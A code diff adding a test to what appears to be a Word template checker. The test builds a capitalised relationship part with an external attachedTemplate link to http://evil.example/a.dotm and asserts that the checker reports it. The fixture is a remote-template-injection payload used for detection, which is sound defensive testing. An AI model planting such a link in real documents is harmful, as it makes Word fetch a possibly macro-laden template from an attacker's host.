@@ -789,6 +789,17 @@ def test_template_check_points_at_the_paragraph_of_a_field_in_the_body(tmp_path)
     assert "[lỗi] đoạn 7 «{{ agency_mark }}xx»: word/document.xml: trường INCLUDETEXT" in result.output
 
 
+def test_a_relationship_part_named_in_capitals_is_read_as_one(tmp_path):
+    # a part's name is the same whatever its case, for Word as for the standard
+    path = copy_package_template(tmp_path)
+    add_parts(path, {"word/_rels/settings.xml.RELS": (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships">' + relation("rId1", "attachedTemplate", "http://evil.example/a.dotm", external=True)
+        + "</Relationships>")})
+    assert ("word/_rels/settings.xml.RELS: mẫu đính kèm (attachedTemplate) lấy từ bên ngoài: http://evil.example/a.dotm"
+            in template_check(path).output)
+
+
 def test_hyperlinks_to_web_and_mail_addresses_are_kept(tmp_path, plan):
     path = copy_package_template(tmp_path)
     add_relations(path, relation("rId96", "hyperlink", "https://doanthanhnien.vn/", external=True),
